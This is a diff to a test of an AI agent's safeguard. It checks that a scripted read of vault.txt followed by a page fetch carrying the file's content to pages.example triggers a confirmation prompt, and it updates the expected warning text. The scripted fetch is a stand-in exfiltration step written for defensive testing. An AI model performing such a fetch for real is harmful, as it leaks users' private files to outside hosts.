@@ -63,7 +63,8 @@ def test_a_request_that_carries_file_content_outside_is_asked_about(
     fetch = selection("office.fetch_page", url=f"https://pages.example/{carrying}")
     done = said(office, scripted_openai, "Read vault.txt and look at pages.example", READ, fetch)
     assert done.status == ASKED, done.out + done.err
-    assert "it sends output of ai.read to an external service" in " ".join(done.out.split())
+    assert "it sends words outside that are not yours" in " ".join(done.out.split())
+    assert "private data (from ai.read)" in " ".join(done.out.split())
     assert called(office) == ""
 
 
